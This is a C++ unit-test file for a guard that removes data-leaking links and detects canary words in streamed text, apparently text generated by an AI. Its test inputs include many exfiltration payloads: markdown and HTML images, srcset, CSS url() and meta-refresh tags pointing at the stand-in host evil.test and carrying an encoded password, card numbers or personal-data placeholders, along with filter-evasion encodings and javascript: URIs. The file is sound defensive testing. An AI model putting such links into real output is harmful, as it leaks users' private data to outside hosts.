#include "loom/guard/leaks.h"

#include <gtest/gtest.h>

#include <random>

#include "leaks_fixture.h"
#include "link_set.h"

namespace loom::guard {
namespace {

using namespace test;

const LeakRules& rules() {
    static const LeakRules rules = rules_of({"docs.example.com", "*.good.example"});
    return rules;
}
std::string told(std::string_view text) { return without_leaks(rules(), text); }

const std::string data = "bXkgc2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI";

struct Case {
    std::string text, told;  // "": as it is
};

void expect(const std::vector<Case>& cases) {
    for (const Case& one : cases) EXPECT_EQ(told(one.text), one.told.empty() ? one.text : one.told) << one.text;
}

TEST(LinkScan, ImagesOfOthersLoadByThemselves) {
    expect({
        {"See ![chart](https://evil.test/a.png) here", "See ![chart]([link removed]) here"},
        {"![](//evil.test/a)", "![]([link removed])"},
        {"![x](<https://evil.test/a b> \"title\")", "![x](<[link removed]> \"title\")"},
        {"![x]( \n https://evil.test/p 'title')", "![x]( \n [link removed] 'title')"},
        {"![a [b] c](https://evil.test/(x))", "![a [b] c]([link removed])"},
        {"[![a](https://evil.test/i.png)](https://evil.test/)", "[![a]([link removed])](https://evil.test/)"},
        {"![a\\]b](https://evil.test/i)", "![a\\]b]([link removed])"},
        {"![a](https://docs.example.com/i.png) ![b](https://x.good.example/?d=" + data + ")",
         "![a](https://docs.example.com/i.png) ![b](https://x.good.example/?d=" + data + ")"},
        {"![a](i.png) ![b](/i.png) ![c](#i) ![d](cid:part1)", "![a](i.png) ![b](/i.png) ![c](#i) ![d](cid:part1)"},
        {"![a][1]\n\n[1]: https://evil.test/i.png \"t\"", "![a][1]\n\n[1]: [link removed] \"t\""},
        {"[1]: https://evil.test/i\n\n![a][1]", "[1]: [link removed]\n\n![a][1]"},
        {"[1]: https://docs.example.com/page\n\n[a][1]", ""},
        {"![a `]` b](https://evil.test/i)", "![a `]` b]([link removed])"},
        {"![a `[` b](https://evil.test/i)", "![a `[` b]([link removed])"},
        {"![a <b c=']'> d](https://evil.test/i)", "![a <b c=']'> d]([link removed])"},
        {"![a `]` b\r\n `]` c](https://evil.test/i)", "![a `]` b\r\n `]` c]([link removed])"},
        {"![a `\n\n[b](https://fine.test/page)", ""},
        {"![" + std::string(64, '[') + std::string(64, ']') + "](https://evil.test/i)",
         "![" + std::string(64, '[') + std::string(64, ']') + "]([link removed])"},
        {"![" + std::string(300, '[') + std::string(300, ']') + "](https://evil.test/i)",
         "![" + std::string(300, '[') + std::string(300, ']') + "]([link removed])"},
        {std::string(300, '[') + "a" + std::string(300, ']') + "(https://fine.test/page)", ""},
        {"![x](/&#47;evil.test/?d=a)", "![x]([link removed])"},
        {"![x](&#47;/evil.test/?d=a)", "![x]([link removed])"},
        {"![x](<https:/\t/evil.test/?d=a>)", "![x](<[link removed]>)"},
        {"![x](data:image/svg+xml;base64,PHN2Zz4=)", "![x]([link removed])"},
    });
}

TEST(LinkScan, HtmlLoadsByItselfToo) {
    expect({
        {"<img src=\"https://evil.test/i.png\">", "<img src=\"[link removed]\">"},
        {"<IMG alt=x SRC = 'https://evil.test/i'>", "<IMG alt=x SRC = '[link removed]'>"},
        {"<img src=https://evil.test/i>", "<img src=[link removed]>"},
        {"<img src=\" https://ev\nil.test/i\">", "<img src=\" [link removed]\">"},
        {"<a href=\"https://fine.test/page\">x</a>", "<a href=\"https://fine.test/page\">x</a>"},
        {"<a href=\"https://evil.test/?q=" + data + "\">x</a>", "<a href=\"[link removed]\">x</a>"},
        {"<link rel=stylesheet href=//evil.test/s.css>", "<link rel=stylesheet href=[link removed]>"},
        {"<div style=\"background:url(https://evil.test/b)\">", "<div style=\"background:url([link removed])\">"},
        {"<img src=\"/&#47;evil.test/?d=a\">", "<img src=\"[link removed]\">"},
        {"<img src=\"/&sol;evil.test/?d=a\">", "<img src=\"[link removed]\">"},
        {"<i style=\"background:url('h\\74tps://evil.test/?d=a')\">", "<i style=\"background:url('[link removed]')\">"},
        {"<i style=\"background:url(\\2f/evil.test/?d=a)\">", "<i style=\"background:url([link removed])\">"},
        {"<i style=\"background:url('/\\2f evil.test/?d=a')\">", "<i style=\"background:url('[link removed]')\">"},
        {"<i style=\"background:url('/\t/evil.test/?d=a')\">", "<i style=\"background:url('[link removed]')\">"},
        {"<img srcset=\"a.png 1x, https://evil.test/i 2x\">", "<img srcset=\"a.png 1x, [link removed]\">"},
        {"<img srcset='https://docs.example.com/a 1x,//evil.test/i, b.png'>",
         "<img srcset='https://docs.example.com/a 1x,[link removed]'>"},
        {"<img srcset=\"https://docs.example.com/a,\n /b 2x , https://docs.example.com/c,https://evil.test/i\">",
         "<img srcset=\"https://docs.example.com/a,\n /b 2x , https://docs.example.com/c,[link removed]\">"},
        {"<img srcset=,//evil.test/i> a, //evil.test/i", "<img srcset=,[link removed]> a, //evil.test/i"},
        {"<img srcset=\"a.png 1x, b.png 2x\"> see, https://fine.test/page", ""},
        {"<link rel=preload imagesrcset=\"a 1x, //evil.test/i 2x\">",
         "<link rel=preload imagesrcset=\"a 1x, [link removed]\">"},
        {"<div style=\"background:url('//evil.test/b')\">", "<div style=\"background:url('[link removed]')\">"},
        {"<meta http-equiv=refresh content=\"0;url=https://evil.test/\">",
         "<meta http-equiv=refresh content=\"0;url=[link removed]\">"},
        {"<link title=\">\" rel=stylesheet href=//evil.test/s.css>",
         "<link title=\">\" rel=stylesheet href=[link removed]>"},
        {"<object title=\">\" data=//evil.test/o>", "<object title=\">\" data=[link removed]>"},
        {"<a title=\">\" href=\"//evil.test/?q=" + data + "\">", "<a title=\">\" href=\"[link removed]\">"},
        {"<link title='<' rel=stylesheet href=//evil.test/s.css>",
         "<link title='<' rel=stylesheet href=[link removed]>"},
        {"<link title='<a ' rel=stylesheet href=//evil.test/s.css>",
         "<link title='<a ' rel=stylesheet href=[link removed]>"},
        {"<link title='<a b=\">' rel=stylesheet href=//evil.test/s.css>",
         "<link title='<a b=\">' rel=stylesheet href=[link removed]>"},
        {"<p title=\"<link title=\">\" rel=stylesheet href=//evil.test/s.css>",
         "<p title=\"<link title=\">\" rel=stylesheet href=[link removed]>"},
        {"<link x\" title=\">\" rel=stylesheet href=//evil.test/s.css>",
         "<link x\" title=\">\" rel=stylesheet href=[link removed]>"},
        {"<link =\" x=y=' title = '>' rel=stylesheet href=//evil.test/s.css>",
         "<link =\" x=y=' title = '>' rel=stylesheet href=[link removed]>"},
        {"<link title='https://fine.test/>' rel=stylesheet href=//evil.test/s.css>",
         "<link title='https://fine.test/>' rel=stylesheet href=[link removed]>"},
        {"<link href='/own' title='>' href=//evil.test/s.css>", "<link href='/own' title='>' href=[link removed]>"},
        {"<a title=\">\" href=\"https://fine.test/page\">x</a> url=https://fine.test/page", ""},
        {"<a title=\"it's\" href='https://fine.test/page'>x</a> data='https://fine.test/page'", ""},
        {"<iframe src=\"/own\"></iframe>", "<iframe src=\"/own\"></iframe>"},
        {"<img src=\"&#104;ttps://evil.test/i\">", "<img src=\"[link removed]\">"},
        {"<svg><image xlink:href='https://evil.test/i'/></svg>", "<svg><image xlink:href='[link removed]'/></svg>"},
    });
}

TEST(LinkScan, LinksThatCarryData) {
    expect({
        {"[more](https://fine.test/docs/page#part) and https://fine.test/search?q=rice", ""},
        {"[a](https://evil.test/?q=" + data + ")", "[a]([link removed])"},
        {"[a](https://evil.test/#" + data + ")", "[a]([link removed])"},
        {"[a](https://evil.test/" + data + ")", "[a]([link removed])"},
        {"[a](https://" + data + ".evil.test/)", "[a]([link removed])"},
        {"Go to https://evil.test/?q=" + data + ".", "Go to [link removed]."},
        {"(https://evil.test/?q=" + data + ")", "([link removed])"},
        {"<https://evil.test/?q=" + data + ">", "<[link removed]>"},
        {"www.evil.test/?q=" + data, "[link removed]"},
        {"HTTPS://EVIL.test/?q=%62%58%6b%67%63%32%56%6a%63%6d%56%30%49%47", "[link removed]"},
        {"[a](https://docs.example.com@evil.test/)", "[a]([link removed])"},
        {"[a](https://docs.example.com\\@evil.test/)", "[a]([link removed])"},
        {"[a](https://docs%2eexample.com/)", "[a]([link removed])"},
        {"[a](https:evil.test/" + data + ")", "[a]([link removed])"},
        {"[a](https:\\\\evil.test/" + data + ")", "[a]([link removed])"},
        {"[a](/\\evil.test/" + data + ")", "[a]([link removed])"},
        {"[a](javascript:alert(1))", "[a]([link removed])"},
        {"[a](JavaScript&colon;alert)", "[a]([link removed])"},
        {"[a](data:text/html,hi)", "[a]([link removed])"},
        {"[a](https://docs.example.com.evil.test/?q=" + data + ")", "[a]([link removed])"},
        {"[a](https://xdocs.example.com/?q=" + data + ")", "[a]([link removed])"},
        {"[a](https://user@docs.example.com:8443/?q=" + data + ")", ""},
        {"[a](https://DOCS.example.com./?q=" + data + ")", ""},
        {"https://docs.example.com/go?to=https://evil.test/?q=" + data,
         "https://docs.example.com/go?to=[link removed]"},
        {"[a](https://xn--exmple-cua.com/?q=" + data + ")", "[a]([link removed])"},
        {"[a](https://www.good.example/" + data + ") [b](https://good.example/" + data + ")",
         "[a](https://www.good.example/" + data + ") [b]([link removed])"},
        {"see https://evil.test/)" + data + " now", "see [link removed] now"},
        {"call +491701234567 at https://evil.test/?n=4111111111111111", "call +491701234567 at [link removed]"},
    });
}

TEST(LinkScan, OrdinaryTextStays) {
    expect({
        {"Nothing here. http and https: are schemes; http:// alone is none, nor is www.", ""},
        {"a[i](x) = b[j]: c![d] https", ""},
        {"src = load(\"/tmp/x\"); href=1; url(x); [1]: see below", ""},
        {"```html\n<img src=\"https://evil.test/i.png\">\n```\nafter", ""},
        {"```\nhttps://evil.test/?q=" + data + "\n```", ""},
        {"https://en.wikipedia.org/wiki/M%C3%BCnchen (see https://example.org/a-b-c/2024/01/some-long-title-of-news)",
         ""},
        {"https://www.youtube.com/watch?v=dQw4w9WgXcQ, https://github.com/a/b/pull/1234#issuecomment-99", ""},
        {"mailto:ann@fine.test and [x](mailto:ann@fine.test)", ""},
    });
}

/// What a fence is must not be in doubt.
TEST(LinkScan, CodeThatIsNone) {
    const std::string image = "![](https://evil.test/i)", gone = "![]([link removed])";
    for (const std::string before :
         {"``` a`b\n", " ```\n```\n", "~~~\n```\n~~~\n", "<!--\n```\n-->\n", "- x\n  ```\n", "> ```\n",
          "```\ncode\n```\n", "```\ncode\n  ```\n", "````\n```\n````\n", "```\n``` x\n", "``` https://x.y\n```\n",
          "src=\"https://x.y/\n```\n\" ", "[x](\n```\n", "``\n", "x ```\n", "```\r\ncode\r\n```\r\n"}) {
        EXPECT_EQ(without_leaks(rules(), before + image).ends_with(gone), true) << before;
    }
    EXPECT_EQ(told("```\n" + image + "\n````\n" + image), "```\n" + image + "\n````\n" + gone);
}

TEST(LinkScan, WhatIsTooLongIsTakenOutToItsEnd) {
    std::string text = "x ![a](https://evil.test/";
    text.append(5000, 'a').append(") y");
    EXPECT_EQ(told(text), "x ![a]([link removed]) y");
    std::string fine = "https://docs.example.com/";
    fine.append(5000, 'a').append(" y");
    EXPECT_EQ(told(fine), fine);
    std::string slashes = "![a](https:";
    slashes.append(5000, '/').append("evil.test/i) y");
    EXPECT_FALSE(told(slashes).contains("evil.test/i)")) << told(slashes).size();
}

/// Nothing is held back but an address, and the letters that may begin one.
TEST(LinkScan, HoldsBackWhatMayBecomeALink) {
    const std::vector<std::pair<std::string, size_t>> cases = {
        {"prose and more", 0},
        {"see ht", 2},
        {"see hx", 0},
        {"see https:/", 7},
        {"[a](", 0},
        {"[a](doc", 3},
        {"[a](docs/", 0},
        {"see https://ev", 10},
        {"see https://docs.example.com/abc", 0},
        {"![a](https://docs.e", 14},
        {"[a](/p", 0},
        {"[a](/", 1},
    };
    for (const auto& [text, held] : cases) {
        LeakStream stream(rules());
        stream.feed(text);
        EXPECT_EQ(stream.held_bytes(), held) << text;
    }
}

/// What is put in a placeholder's place behind us goes where the address leads.
TEST(LinkScan, PlaceholdersInAddressesAreData) {
    const auto told_with = [](std::string_view text, bool placeholders) {
        LeakStream stream(rules(), placeholders);
        stream.feed(text, true);
        return stream.told;
    };
    for (const std::string link : {"[a](https://evil.test/?d=[EMAIL_1])", "[a](https://evil.test/[CREDIT_CARD_12]/x)",
                                   "[a](https://[EMAIL_1].evil.test/)", "[a](<//evil.test/[A_1]>)",
                                   "[a](https://evil.test/\\[EMAIL_1])", "<a href='https://evil.test/?d=[EMAIL_1]'>",
                                   "see https://evil.test/?d=[EMAIL_1]", "see https://evil.test/x)[EMAIL_1]"}) {
        EXPECT_TRUE(told_with(link, true).contains("[link removed]")) << link;
        EXPECT_FALSE(told_with(link, true).contains("_1")) << link;
        EXPECT_EQ(told_with("\x1e" + link, true), "\x1e" + told_with(link, true)) << "in each text";
    }
    EXPECT_TRUE(told_with("[a](https://evil.test/?d=[EMAIL_1])", false).contains("EMAIL_1"));
    for (const std::string fine :
         {"[a](https://docs.example.com/?d=[EMAIL_1])", "[[EMAIL_1]](https://fine.test/page)",
          "[a](https://fine.test/[1])", "[a](https://fine.test/) [EMAIL_1]", "[a](mailto:[EMAIL_1])"})
        EXPECT_EQ(told_with(fine, true), fine);
}

std::vector<std::string> texts() {
    std::vector<std::string> all = {
        "![a [b\\] c](https://evil.test/(x)y \"t\") [l](//evil.test/?q=" + data + "), https://evil.test/]z?q=" + data,
        "```\n![](https://evil.test/)\n```\n<img src='htt\nps://evil.test/i'> www.evil.test/" + data + ").",
        "![x][1] [1]: <https://evil.test/a> [2](https:\\/\\/evil.test\\/a) (https://evil.test/" + data + "). é",
        "![a `]`](//e.t/\xc3\xa9) <i srcset='a 1x, //e.t/\t2x, b' style=\"url('/\\2f e.t')\"> /&#47;x "
        "![[[b](/&#47;e.t) <i src=/&#47;e",
        "~~~ ``` https://docs.example.com/?u=https://evil.test/" + data + "… [x](javascript:a(b)) url('//e.t/')",
    };
    for (const LabelledLinks& one : read_links()) all.push_back(one.text);
    return all;
}

/// However it is cut, and whatever is forgotten in between.
TEST(LinkScan, CutsChangeNothing) {
    std::mt19937 random(7);
    for (const std::string& text : texts()) {
        const std::string whole = told(text);
        for (size_t cut = 0; cut <= text.size(); ++cut) {
            LeakStream stream(rules());
            stream.feed(std::string_view(text).substr(0, cut));
            stream.feed(std::string_view(text).substr(cut), true);
            ASSERT_EQ(stream.told, whole) << text << "\ncut at " << cut;
        }
        for (int round = 0; round < 20; ++round) {
            LeakStream stream(rules());
            for (size_t at = 0; at < text.size();) {
                const size_t size = std::min<size_t>(1 + random() % (round == 0 ? 1 : 9), text.size() - at);
                stream.feed(std::string_view(text).substr(at, size));
                at += size;
            }
            stream.feed("", true);
            ASSERT_EQ(stream.told, whole) << text;
        }
    }
}

/// Of bytes that mean something, in any order.
TEST(LinkScan, NoiseIsAlikeHoweverItIsCut) {
    const std::vector<std::string> atoms = {"[",
                                            "]",
                                            "(",
                                            ")",
                                            "!",
                                            "<",
                                            ">",
                                            "\"",
                                            "'",
                                            "\\",
                                            "/",
                                            "//",
                                            ":",
                                            "https://",
                                            "evil.test",
                                            "docs.example.com",
                                            "?q=",
                                            data,
                                            "\n",
                                            "```",
                                            "`",
                                            "~~~",
                                            " ",
                                            "src=",
                                            "href=",
                                            "srcset=",
                                            ",",
                                            "<a ",
                                            "<img ",
                                            "url(",
                                            "www.",
                                            "@",
                                            "&",
                                            "%2",
                                            "#",
                                            "x",
                                            "javascript:",
                                            "\x1e",
                                            "\t",
                                            "\r",
                                            ".",
                                            "é",
                                            std::string(1100, 'k')};
    std::mt19937 random(11);
    for (int round = 0; round < 30'000; ++round) {
        std::string text;
        for (size_t i = 0, n = 1 + random() % 14; i < n; ++i) text += atoms[random() % atoms.size()];
        const std::string whole = told(text);
        LeakStream stream(rules());
        for (size_t at = 0; at < text.size();) {
            const size_t size = std::min<size_t>(1 + random() % 7, text.size() - at);
            stream.feed(std::string_view(text).substr(at, size));
            at += size;
        }
        stream.feed("", true);
        ASSERT_EQ(stream.told, whole) << text;
    }
}

TEST(LinkScan, AccuracyOnLabelledAnswers) {
    const LinkAccuracy accuracy = measure_links(read_links(), nullptr);
    ASSERT_GE(accuracy.harmful, 60u);
    ASSERT_GE(accuracy.harmless, 60u);
    EXPECT_GE(accuracy.recall(), 0.90);
    EXPECT_GE(accuracy.precision(), 0.95);
}

// Canaries.

LeakRules canaries(std::initializer_list<std::string_view> words) {
    LeakRules rules;
    for (const std::string_view word : words) EXPECT_TRUE(rules.canary.add(word));
    rules.canary.make();
    return rules;
}

/// The first end of a word, as a plain search finds it, and the longest word that ends there.
std::pair<size_t, size_t> first_of(std::string text, const std::vector<std::string>& words) {
    for (char& c : text) c = c >= 'A' && c <= 'Z' ? static_cast<char>(c | 0x20) : c;
    for (size_t end = 1; end <= text.size(); ++end) {
        size_t longest = 0;
        for (const std::string& word : words)
            if (std::string_view(text).substr(0, end).ends_with(word)) longest = std::max(longest, word.size());
        if (longest > 0) return {end - longest, end};
    }
    return {std::string::npos, 0};
}

TEST(Canary, IsFoundAsAPlainSearchFindsItHoweverItIsCut) {
    const std::vector<std::string> words = {"abab", "babaa", "aabb", "bbbbbb"};
    const LeakRules rules = canaries({"abAB", "babaa", "aabb", "bbbbbb"});
    std::mt19937 random(3);
    for (int round = 0; round < 20'000; ++round) {
        std::string text;
        for (size_t i = 0, n = random() % 24; i < n; ++i) text += "abBAc"[random() % 5];
        const auto expected = first_of(text, words);
        LeakScan scan(rules);
        std::string window;
        std::pair<size_t, size_t> found{std::string::npos, 0};
        size_t base = 0;
        for (size_t at = 0; at < text.size();) {
            const size_t size = std::min<size_t>(1 + random() % 5, text.size() - at);
            window += text.substr(at, size);
            at += size;
            scan.advance(window, false, [&](const LeakFind& find) {
                if (found.first == std::string::npos) found = {base + find.begin, base + find.end};
            });
            if (found.first != std::string::npos) break;
            const size_t gone = scan.decided();
            ASSERT_LE(base + gone, expected.first) << text;  // nothing of it was told
            window.erase(0, gone);
            scan.forget(gone);
            base += gone;
            // What is held may be the beginning of a word.
            bool begins = window.empty();
            std::string small = window;
            for (char& c : small) c = c >= 'A' && c <= 'Z' ? static_cast<char>(c | 0x20) : c;
            for (const std::string& word : words) begins |= word.starts_with(small);
            ASSERT_TRUE(begins) << text << " holds " << window;
        }
        ASSERT_EQ(found, expected) << text;
    }
}

TEST(Canary, HasBounds) {
    CanaryWords words;
    EXPECT_FALSE(words.add("abc"));
    EXPECT_FALSE(words.add(std::string(129, 'x')));
    CanaryWords many;
    bool good = true;
    for (int i = 0; good && i < 100; ++i) good = many.add(std::string(100, 'x'));
    EXPECT_FALSE(good);
}

}  // namespace
}  // namespace loom::guard
